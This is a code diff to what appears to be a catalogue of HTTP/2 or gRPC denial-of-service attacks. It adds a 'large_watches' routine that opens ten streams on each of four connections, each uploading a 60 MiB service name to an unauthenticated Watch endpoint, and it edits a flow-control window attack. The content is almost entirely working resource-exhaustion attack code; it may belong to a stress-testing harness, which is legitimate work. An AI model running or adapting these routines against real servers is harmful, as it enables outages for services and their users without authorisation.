@@ -202,7 +202,6 @@ def made_by_field(sender):
 def windows_below_zero(sender):
     """Answers are in flight when the window of all streams shrinks by more than is left of it, and grows again."""
     big = request_of(64 << 10)
-    yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30))
     block = FIRST
     while True:
         out = []
@@ -293,6 +292,17 @@ def slow_reader(address, end):
             time.sleep(min(1, left))
 
 
+def large_watches(address, end):
+    """Ten Watches of a service whose name takes 60 MiB: no token is needed to ask."""
+    with Peer(address, source=SOURCE) as peer:
+        name = message(b"\x0a" + varint(60 << 20) + b"a" * (60 << 20))
+        for _ in range(10):
+            stream = peer.next_stream()
+            peer.send(frame(HEADERS, END_HEADERS, stream, request_headers(path=WATCH)))
+            peer.upload_on(stream, name)
+        time.sleep(max(0, end - time.monotonic()))
+
+
 ATTACKS = {
     "resets_unread": Attack(resets),
     "answers_unread": Attack(answers),
@@ -328,6 +338,7 @@ ATTACKS = {
     "held_by_the_last_byte_36": Attack(held_by_the_last_byte, connections=36, reads=True),
     "held_by_windows_36": Attack(held_by_windows, connections=36, reads=True, settings={"window": 0}),
     "watches_36": Attack(watches, connections=36, reads=True),
+    "large_watches_4": Attack(None, connections=4, threads=large_watches),
     "slow_readers_64": Attack(None, connections=64, threads=slow_reader),
 }
 
